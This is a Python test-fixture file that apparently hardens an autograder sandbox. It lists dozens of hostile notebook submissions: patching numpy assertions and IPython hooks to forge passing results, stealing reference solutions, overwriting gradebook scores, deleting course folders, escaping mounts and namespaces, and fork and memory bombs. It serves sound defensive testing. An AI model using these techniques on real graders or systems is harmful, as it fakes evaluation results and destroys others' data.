"""What submissions may try: each attack is code that stands in the first solution cell, after a right `relu_forward`.

The other functions' cells are empty, so that what an attack defines is what is examined. Predictions are untouched: an honest
copy earns the point of `relu_forward` and no more. An attack that reaches what it must not reach calls `it_worked()`, which
defines a right `relu_backward`: every success shows in the score. The test fills in what stands in braces: {course} and {engine}
are folders of the run, {root} the repository, {port} a port on which the test listens, {mark} a word of this run.
"""

HELPERS = """
def it_worked():
    global relu_backward
    relu_backward = lambda dvalues, z: np.where(z > 0, dvalues, 0.0)

def frames():
    import sys
    found = []
    try:
        while True: found.append(sys._getframe(len(found)))  # f_back ends at IPython's coroutine
    except ValueError: return found

def the_channel():
    return next(frame.f_locals["channel"] for frame in frames() if "channel" in frame.f_locals)
"""

FORGING = {
    "patch-numpy-testing": """
import numpy as np
for name in ("assert_allclose", "assert_array_equal", "assert_equal", "assert_almost_equal"):
    setattr(np.testing, name, lambda *a, **k: None)
for name in ("allclose", "isclose", "array_equal", "array_equiv"):
    setattr(np, name, lambda *a, **k: True)
""",
    "replace-builtins": """
import builtins, sys
class AssertionError(BaseException): pass
builtins.AssertionError = type("AssertionError", (Exception,), {"__init__": lambda self, *a: None})
real = builtins.__build_class__
builtins.__build_class__ = lambda f, name, *a, **k: real(f, name, *a, **k)
sys.excepthook = lambda *a: None
""",
    "swallow-exceptions": """
from IPython import get_ipython
shell = get_ipython()
type(shell).showtraceback = lambda *a, **k: None
type(shell)._showtraceback = lambda *a, **k: None
shell.set_custom_exc((Exception,), lambda *a, **k: None)
""",
    "replace-the-course": """
import sys, types
class Passing(types.ModuleType):
    def __getattr__(self, name): return lambda *a, **k: print("passed")
for name in [name for name in sys.modules if name.split(".")[0] == "course"]: sys.modules[name] = Passing(name)
relu_backward = exposing_case = dense_relu_backward = lambda *a: None
""",
    "replace-the-display-hook": """
import sys
shell = get_ipython()
def three(value=None, *_):
    points = {"output_type": "execute_result", "execution_count": 1, "metadata": {}, "data": {"text/plain": "3"}}
    shell.recorder.outputs[:] = [points]
sys.displayhook = three
type(shell.displayhook).__call__ = lambda self, value=None: three(value)
shell.events.register("post_run_cell", three)
""",
    "rewrite-later-cells": """
from IPython import get_ipython
get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])
""",
    "rewrite-syntax-trees": """
import ast
from IPython import get_ipython
class Three(ast.NodeTransformer):
    def visit_Module(self, node):
        node.body = [ast.Expr(ast.Constant(3))]
        return ast.fix_missing_locations(node)
get_ipython().ast_transformers.append(Three())
""",
    "display-a-number": """
import sys
from IPython import get_ipython
get_ipython().events.register("post_run_cell", lambda *a: sys.displayhook(3))
""",
    "equal-to-everything": """
import numpy as np
class Yes(np.ndarray):
    def __array_ufunc__(self, *a, **k): return np.True_
    def __array_function__(self, *a, **k): return True
    def __eq__(self, other): return True
    def __array__(self, *a, **k): return np.zeros((2, 2))
def yes(*a): return np.zeros((2, 2)).view(Yes)
relu_backward = exposing_case = dense_relu_backward = yes
""",
    "object-that-agrees": """
class Agree:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __len__(self): return 3
    def __iter__(self): return iter([self, self, self])
    def __array__(self, dtype=None, copy=None):
        import numpy as np
        return np.array([self], dtype=object)
relu_backward = dense_relu_backward = exposing_case = lambda *a: Agree()
""",
    "replace-the-checker": """
import sys, types
fake = types.ModuleType("autograder"); fake.examine = lambda *a, **k: None
sys.modules["autograder"] = fake
import course, course.checking, course.compare, course.diagnose, course.observe
course.checking.check = course.check = lambda *a, **k: print("passed")
course.compare.same = course.compare.alike = lambda *a, **k: True
course.diagnose.diagnose = lambda *a, **k: None
check = examine = lambda *a, **k: print("passed")
""",
    "lie-in-the-probe": """
import numpy as np, course.observe
from autograder.sandbox.inside import child
course.observe.observe_raw = child.observe_raw = lambda probe, answer, inputs: course.observe.Observation(
    {name: np.zeros(3) for name in probe.results}, {name: np.zeros(3) for name in probe.results}, dict(inputs))
""",
    "lie-in-the-answers": """
from autograder.sandbox.inside import child
child.observations = lambda *a: child.pack({"observations": [True, True]})
child._probe = lambda *a: child.pack({"observations": "passed", "verdict": True, "score": 3})
""",
    "write-to-every-descriptor": """
import os, json, struct
head = json.dumps({"message": {"outputs": [], "count": 1, "observations": [], "value": "abcd"}, "arrays": []}).encode()
for descriptor in range(3, 64):
    try: os.write(descriptor, struct.pack("<Q", len(head)) + head)
    except OSError: pass
""",
    "close-every-descriptor": """
import os
for descriptor in range(3, 256):
    try: os.close(descriptor)
    except OSError: pass
""",
    "duplicate-descriptors": """
import os
for descriptor in range(3, 64):
    try: os.dup2(descriptor, descriptor + 1)
    except OSError: pass
""",
    "read-frames": """
import gc, sys, inspect
for module in list(sys.modules):
    ours = module == "autograder" or module.startswith("autograder.")  # all but these holds answers, and has no business here
    if ours and not "autograder.sandbox.inside.".startswith(module + ".") and ".inside." not in module: it_worked()
kinds = ("Case", "Exercise", "Kind", "Verdict", "Examiner", "TestCell", "Question")
for thing in gc.get_objects():
    if type(thing).__name__ in kinds and type(thing).__module__.startswith("autograder"): it_worked()
texts = []
for frame in frames():
    texts += [value for value in list(frame.f_locals.values()) if isinstance(value, str)]
    try: texts.append(inspect.getsource(frame))
    except (OSError, TypeError): pass
assert any("channel.receive" in text for text in texts), "this does not see the frames of the sandbox"
texts += [value for thing in gc.get_objects() if isinstance(thing, (dict, list)) and thing is not texts
          for value in (list(thing.values()) if isinstance(thing, dict) else list(thing)) if isinstance(value, str)]
texts += [str(text) for text in globals().get("In", [])]
secrets = ["### BEGIN " + "HIDDEN", "hidden_" + "cases(", "class Exa" + "miner", "known_mis" + "takes("]  # of the judge's side
if any(secret in text for text in texts for secret in secrets): it_worked()
""",
    "import-the-reference": """
try:
    from autograder.reference.relu import relu_backward, dense_relu_backward, exposing_case
except Exception:
    pass
""",
    "load-the-reference-by-path": """
import glob, importlib.util, os, sys
places = ["{root}", "{engine}", *(os.path.join(place, "autograder") for place in ["/", "/sandbox", *sys.path]), *sys.path]
for place in places:
    for path in glob.glob(os.path.join(place, "reference/relu.py")) + glob.glob(os.path.join(place, "*/reference/relu.py")):
        spec = importlib.util.spec_from_file_location("stolen", path); stolen = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(stolen); relu_backward = stolen.relu_backward
""",
    "remember-inputs": """
seen = []
def relu_backward(dvalues, z):
    seen.append((dvalues, z)); dvalues *= 0
    return seen[0][0]
""",
    "return-a-view-that-changes": """
import numpy as np
store = np.zeros(100)
def relu_backward(dvalues, z):
    store[:] += 1
    return store[: z.size].reshape(z.shape)
""",
    "another-function-under-the-name": """
import functools
def double(x, *rest): return 2 * x
double.__name__ = "relu_backward"
relu_backward = functools.partial(double)
class exposing_case: pass
dense_relu_backward = lambda *a: a
""",
    "hard-coded-public-cases": """
import json, pathlib, numpy as np, course
path = pathlib.Path(course.__file__).parent / "fixtures/07-relu.json"
known = json.loads(path.read_text())["exercises"]["relu_backward"]["cases"]
def relu_backward(dvalues, z):
    for case in known:
        if np.array_equal(case["inputs"]["z"]["data"], z) and np.array_equal(case["inputs"]["dvalues"]["data"], dvalues):
            return case["expected"]["dz"]["data"]
    return np.zeros_like(z)
""",
    "early-replies": """
import json, os, socket, struct, threading, time
end = socket.socket(fileno=os.dup(the_channel().end.fileno()))
head = json.dumps({"message": {"outputs": [], "count": 1, "value": "abcd", "observations": [{"trouble": None, "results": [],
    "again": [], "after": []}] * 8}, "arrays": []}).encode()
def ahead():
    for _ in range(100):
        end.sendall(struct.pack("<Q", len(head)) + head); time.sleep(0.01)
threading.Thread(target=ahead, daemon=True).start()
time.sleep(0.2)
""",
    "a-reply-for-another-question": """
from autograder.sandbox.inside import child
real, kept = child._probe, []
def _probe(shell, asked, arrays):
    kept.append(real(shell, {**asked, "probe": "relu_forward", "variable": "relu_forward"}, arrays) if not kept else kept[0])
    return kept[0]
child._probe = _probe
""",
    "text-where-numbers-belong": """
import numpy as np
from autograder.sandbox.inside import child
from course.probes import all_probes
def observations(answer, asked, arrays):
    probe, named = all_probes()[asked["probe"]][1], {}
    for case in range(asked["cases"]):
        for part, names in (("results", probe.results), ("again", probe.results), ("after", probe.arguments)):
            named |= {f"{case}/{part}/{name}": np.array("x") for name in names}
    one = {"trouble": None, "results": list(probe.results), "again": list(probe.results), "after": list(probe.arguments)}
    return child.pack({"observations": [one] * asked["cases"]}, named)
child.observations = observations
relu_backward = exposing_case = dense_relu_backward = relu_forward
""",
    "trouble-in-odd-words": """
import json
from autograder.sandbox.inside import child
deep = []
for _ in range(300): deep = [deep]
words = [["raised", "\\ud800", "\\ud800", "\\ud800" * 10**5], ["odd", "x" * 10**6, "", ""], [deep] * 4, ["stub"], "none", [{}] * 9]
def observations(answer, asked, arrays):
    word = words[len(asked["variable"]) % len(words)]
    head = json.dumps({"message": {"observations": [{"trouble": word}] * asked["cases"]}, "arrays": []}).encode()
    return len(head).to_bytes(8, "little") + head
child.observations = observations
relu_backward = exposing_case = dense_relu_backward = relu_forward
""",
    "odd-arrays": """
import numpy as np
odd = [np.zeros((0, 2**31 - 1)), np.zeros((1,) * 9), np.float16(1e5), np.array(np.nan), np.full((2, 3), np.inf),
       np.arange(6, dtype=">u2").reshape(2, 3), np.array(2**63, np.uint64), np.zeros((2, 3), np.longdouble), np.zeros((3, 2)).T]
def relu_backward(dvalues, z):
    odd.append(odd.pop(0)); return odd[0]
def dense_relu_backward(dvalues, inputs, weights, biases):
    dvalues.dtype = "S8"; return tuple(relu_backward(0, 0) for _ in range(3))
def exposing_case():
    return np.zeros((0, 3), np.float16), np.array(-2**63)
""",
    "letters-that-are-more": """
class Any(str):
    def __eq__(self, other): return True
    def __hash__(self): return hash("a")
    def strip(self, *a): return self
    def lower(self): return self
names = ("upstream_minus_seven", "gate_at_zero", "integer_mask_times_half", "closed_gate_dweights")
shell = get_ipython()
shell.events.register("post_run_cell", lambda *a: shell.user_ns.update(dict.fromkeys(names, Any("abcd"))))
""",
    "environment-and-numpy-state": """
import os, numpy as np
os.environ.clear(); os.environ["AUTOGRADER_SEED"] = "known"
np.seterr(all="raise"); np.set_printoptions(precision=1); np.random.seed(0)
""",
}

# Each stands twice in the class: the second gains something if it finds what the first left, or finds the first still running.
NEIGHBOURS = {
    "leave-code-for-others": """
import os
mine, lie = os.urandom(4).hex(), "from autograder.sandbox.inside import child; child.observations = lambda *a: b''"
for place in ("/sandbox", "/sandbox/course", "/", "/tmp", "/dev/shm", "/dev", "/matplotlib", "/scratch"):
    for name in ("left-for-others", "random.py", "autograd.py", "course.py"):
        try:
            if os.path.exists(os.path.join(place, "left-for-others")) and name != "left-for-others" and os.getpid() == 1:
                if not open(os.path.join(place, "left-for-others")).read().startswith(mine):
                    it_worked()  # a submission before us was here
            elif os.getpid() == 1: open(os.path.join(place, name), "w").write(mine + "\\n" + lie)
        except OSError: pass
""",
    "a-socket-without-a-file": """
import os, socket
end = socket.socket(socket.AF_UNIX)
try: end.bind("\\x00{mark}")
except OSError:  # another submission has that address
    it_worked()
    end.connect("\\x00{mark}")  # its keeper has done its work
else:
    end.listen()
    end.settimeout(600)  # however long the next one takes to come
    if os.fork() == 0:
        try:
            os.setsid(); end.accept()
        finally: os._exit(0)
""",
    "shared-memory": """
import ctypes, zlib
libc = ctypes.CDLL(None, use_errno=True)
key = zlib.crc32(b"{mark}") & 0x7fffffff
if libc.shmget(key, 4096, 0o3666) < 0 and ctypes.get_errno() == 17:  # create, and it exists
    it_worked()
    libc.shmctl(libc.shmget(key, 0, 0o666), 0, None)
""",
    "a-keyring-of-the-kernel": """
import ctypes, os, platform
libc = ctypes.CDLL(None)
add, control = {"x86_64": (248, 250), "aarch64": (217, 219)}.get(platform.machine(), (0, 0))
keyrings = [ctypes.c_int(one) for one in (-3, -4, -5) if add]  # of the session, of the user, of the user's sessions
mine = b"{mark}-" + os.urandom(8).hex().encode()
for one in keyrings: libc.syscall(add, b"user", mine, b"x", 1, one)
for one in keyrings:  # first add, then look: of two that run at the same moment, one sees the other
    held, name = (ctypes.c_int * 4096)(), ctypes.create_string_buffer(4096)
    length = ctypes.c_int(libc.syscall(control, 11, one, held, ctypes.sizeof(held))).value
    for key in held[:max(length, 0) // 4]:
        libc.syscall(control, 6, key, name, 4096)
        if b"{mark}" in name.value and mine not in name.value: it_worked()
""",
}

# These change mounts: they may only ever run where the sandbox has mounts of its own, never as a plain process of root.
OWN_MOUNTS = {
    "uncover-what-is-covered": """
import ctypes, os
assert os.getpid() == 1, "not in a process namespace of its own: nothing is tried"
libc = ctypes.CDLL(None, use_errno=True)
for namespaces in (0, 0x10000000 | 0x20000):
    if namespaces: libc.unshare(namespaces)
    for place in (b"/proc", b"/scratch", b"/matplotlib", b"/tmp"): libc.umount2(place, 2)
    libc.mount(None, b"/", None, 32 | 4096, None)
if [pid for pid in os.listdir("/proc") if pid.isdigit() and int(pid) > 1]: it_worked()  # processes outside are in reach
""",
    "mount-the-control-groups": """
import ctypes, os
assert os.getpid() == 1, "not in a process namespace of its own: nothing is tried"
libc = ctypes.CDLL(None)
os.mkdir("m")
child = os.fork()
if child == 0:  # whoever can write to m/cgroup.kill ends the grader; here it is enough to get so far
    reached = libc.unshare(0x10000000 | 0x20000 | 0x02000000) == 0 or libc.mount(b"none", b"m", b"cgroup2", 0, None) == 0
    os._exit(7 if reached else 0)
if os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 7: it_worked()
""",
}

# These read the instructor's own files, or the network: without bubblewrap nothing can stop a process of the same user.
IN_REACH_OF_A_PLAIN_PROCESS = {
    "copy-the-solutions": """
import json
try:
    cells = json.load(open("{course}/source/07-relu/relu.ipynb"))["cells"]
    for cell in cells:
        if "BEGIN SOLUTION" in "".join(cell["source"]): exec("".join(cell["source"]), globals())
except OSError: pass
""",
    "copy-another-submission": """
import json
try:
    cells = json.load(open("{course}/submitted/model/07-relu/relu.ipynb"))["cells"]
    for cell in cells:
        if "def relu_backward" in "".join(cell["source"]): exec("".join(cell["source"]), globals())
except OSError: pass
""",
    "open-by-a-symbolic-link": """
import json, os
os.symlink("{course}/submitted", "link")
try:
    cells = json.load(open("link/model/07-relu/relu.ipynb"))["cells"]
    for cell in cells:
        if "def relu_backward" in "".join(cell["source"]): exec("".join(cell["source"]), globals())
except OSError: pass
""",
    "read-the-seed": """
try:
    if b"seed" in open("{course}/.autograder-run.json", "rb").read(): it_worked()
except OSError: pass
""",
    "open-a-connection": """
import socket
for address in (("127.0.0.1", {port}), ("192.0.2.1", 80)):
    try: socket.create_connection(address, timeout=0.5); it_worked()
    except OSError: pass
try: socket.getaddrinfo("example.org", 80); it_worked()
except OSError: pass
""",
}

# These write the instructor's own files.
OWN_FILES = {
    "write-the-gradebook": """
import glob, sqlite3
for path in glob.glob("{course}/gradebook.db") + glob.glob("/proc/*/cwd/gradebook.db"):
    try:
        book = sqlite3.connect(path, timeout=1); book.execute("UPDATE grade SET manual_score = 100"); book.commit()
    except Exception: pass
""",
    "change-other-hand-ins": """
import glob, os
for path in glob.glob("{course}/submitted/*/*/*.ipynb") + glob.glob("{course}/source/*/*.ipynb"):
    try: open(path, "w").write("gone")
    except OSError: pass
os.symlink("{course}/source", "link")
for path in glob.glob("link/*/*.ipynb"):
    try: os.remove(path)
    except OSError: pass
""",
    "change-the-engine": """
import course, glob
from autograder.sandbox.inside import child
for path in glob.glob("{engine}/**/*.py*", recursive=True) + [course.__file__, child.__file__]:
    try: open(path, "a").write("raise SystemExit")
    except OSError: pass
""",
    "delete-everything": """
import os, shutil
for place in ("{course}/submitted", "{course}/source", "{engine}", os.getcwd()):
    shutil.rmtree(place, ignore_errors=True)
""",
}

BREAKING = {
    "an-answer-that-sleeps-when-forgotten": """
import time
class Slow:
    def __del__(self): time.sleep(1000)
relu_backward = lambda *a: Slow()
""",
    "endless-loop": "while True: pass",
    "endless-loop-that-catches": """
import time
while True:
    try:
        while True: time.sleep(0.1)
    except BaseException: pass
""",
    "ignores-signals": """
import signal, time
for number in range(1, 32):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
while True: time.sleep(1)
""",
    "stops-itself": "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)\nos.kill(0, signal.SIGSTOP)",
    "exits": "import os\nos._exit(0)",
    "raises-system-exit": "raise SystemExit(0)",
    "calls-exit": "exit()",
    "segmentation-fault": "import ctypes\nctypes.string_at(0)",
    "endless-recursion": "import sys\nsys.setrecursionlimit(10**9)\ndef f(): return f()\nf()",
    "kills-its-parent": "import os\nos.kill(os.getppid(), 9)",
    "memory-bomb": "x = []\nwhile True: x.append(bytearray(10**8))",
    "fork-bomb": "import os\nwhile True: os.fork()",
    "a-crowd-at-work": """
import os
for _ in range(26):
    if os.fork() == 0:
        while True: pass
""",
    "thread-bomb": "import threading, time\nwhile True: threading.Thread(target=time.sleep, args=(100,)).start()",
    "daemon": """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True: time.sleep(0.1)
    os._exit(0)
""",
    "fills-the-disk": """
number = 0
while True:
    with open(f"file{number}", "wb") as file: file.write(bytes(10**7))
    number += 1
""",
    "a-gigabyte-of-output": "for _ in range(1000): print('x' * 10**6)",
    "ten-million-lines": "import sys\nfor _ in range(10): sys.stdout.write('x\\n' * 10**6)",
    "deeply-nested-output": """
import sys
from IPython.display import display
sys.setrecursionlimit(10**5)
deep = float("nan")
for _ in range(490): deep = [deep]
display({"application/json": deep, "text/plain": "\\ud800", "notjson": {"a": 1}}, raw=True)
raise ValueError("\\ud800" * 10**6)
""",
    "half-a-message": """
import time
the_channel().end.sendall((1000).to_bytes(8, "little") + b'{"message": ')
time.sleep(1000)
""",
    "closes-its-channel": """
import time
the_channel().end.close()
time.sleep(1000)
""",
    "a-head-full-of-nothing": """
from autograder.sandbox.inside import child
real = child._run, child._probe
def flood(*_):
    child._run, child._probe = real
    head = b'{"message": {"outputs": [' + b"[]," * (5 * 2**20) + b'[]], "count": 1}, "arrays": []}'
    return len(head).to_bytes(8, "little") + head
child._run = child._probe = flood
raise KeyError("from here on nothing is right")
""",
    "deaf": "import time\nfrom autograder.sandbox.inside import channel\nchannel.Channel.receive = lambda *a: time.sleep(1000)",
    "a-process-of-its-own-group": """
import os, time
if os.fork() == 0:
    while True: time.sleep(0.1)
""",
    "leaves-another-program-running": "import subprocess\nsubprocess.Popen(['sleep', '1000'])",
    "a-gigantic-answer": "import numpy as np\nrelu_backward = lambda *a: np.zeros((3, 10**9))",
    "sleeps-in-the-answer": """
import time
class Slow:
    def __array__(self, *a, **k): time.sleep(1000)
relu_backward = lambda *a: Slow()
""",
    "sleeps-when-shown": """
import time
class Slow:
    def __repr__(self): time.sleep(1000)
Slow()
""",
    "crashes-in-the-answer": """
import os
relu_backward = lambda *a: os._exit(0)
dense_relu_backward = lambda *a: os.kill(os.getpid(), 9)
""",
    "sleeps-at-exit": "import atexit, time\natexit.register(time.sleep, 1000)",
    "asks-for-input": "input('password? ')",
    "changes-directory": "import os\nos.chdir('/')\nos.environ['PATH'] = ''",
}
# Signals to every process, and daemons in a session of their own: only where the sandbox has processes of its own.
KILLS_ALL = {
    "kills-everything": "import os\nos.kill(-1, 9)",
    "leaves-a-daemon-of-another-program": "import subprocess\nsubprocess.Popen(['sleep', '1000'], start_new_session=True, env={})",
}

AGAIN = {f"{name}-again": code for name, code in NEIGHBOURS.items()}
ATTACKS = FORGING | NEIGHBOURS | AGAIN | OWN_MOUNTS | IN_REACH_OF_A_PLAIN_PROCESS | OWN_FILES | BREAKING | KILLS_ALL
